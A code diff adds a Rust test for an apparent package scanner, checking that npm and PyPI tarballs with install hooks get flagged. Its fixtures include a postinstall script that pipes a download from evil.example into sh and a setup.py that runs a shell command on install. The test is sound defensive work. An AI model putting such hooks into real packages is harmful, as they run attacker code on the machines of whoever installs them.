@@ -348,3 +348,79 @@ fn archives_are_unpacked_and_hostile_entries_reported() {
     assert_eq!(tampered, 2, "found in the zip and in the tarball inside it");
     assert!(ids_for(&report, "evil.txt").contains(&"archive.path-traversal"));
 }
+
+#[test]
+fn npm_and_pypi_packages_with_install_hooks() {
+    let dir = tempfile::tempdir().unwrap();
+    let pack = |name: &str, files: &[(&str, &str)]| {
+        let root = dir.path().join(name);
+        for (path, text) in files {
+            let p = root.join(path);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(p, text).unwrap();
+        }
+        let tgz = dir.path().join(format!("{name}.tgz"));
+        run(Command::new("tar")
+            .arg("czf")
+            .arg(&tgz)
+            .arg("-C")
+            .arg(&root)
+            .arg("."));
+        tgz
+    };
+    let clean = pack(
+        "clean",
+        &[
+            (
+                "package/package.json",
+                r#"{"name":"left-pad","version":"1.3.0","scripts":{"test":"node test.js"}}"#,
+            ),
+            ("package/index.js", "module.exports = (s) => s;\n"),
+        ],
+    );
+    let (code, report) = vet(&[&clean]);
+    assert_eq!(
+        (code, report["verdict"].as_str()),
+        (Some(0), Some("clean")),
+        "{report:#}"
+    );
+    let hooked = pack(
+        "hooked",
+        &[(
+            "package/package.json",
+            r#"{"name":"left-pad","version":"1.3.1","scripts":{"postinstall":"curl -s https://evil.example/p.sh | sh"}}"#,
+        )],
+    );
+    let (code, report) = vet(&[&hooked]);
+    assert_eq!(code, Some(1));
+    let hook = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["id"] == "package.install-script")
+        .expect("the hook");
+    assert_eq!(hook["severity"], "high");
+    assert!(
+        hook["file"]
+            .as_str()
+            .unwrap()
+            .ends_with("package/package.json"),
+        "{hook:#}"
+    );
+    let sdist = pack(
+        "sdist",
+        &[(
+            "pkg-1.0/setup.py",
+            "import subprocess\nsubprocess.call(['sh', '-c', 'id'])\nfrom setuptools import setup\nsetup(name='pkg')\n",
+        )],
+    );
+    let (_, report) = vet(&[&sdist]);
+    assert!(
+        report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["id"] == "package.install-script" && f["severity"] == "high"),
+        "{report:#}"
+    );
+}
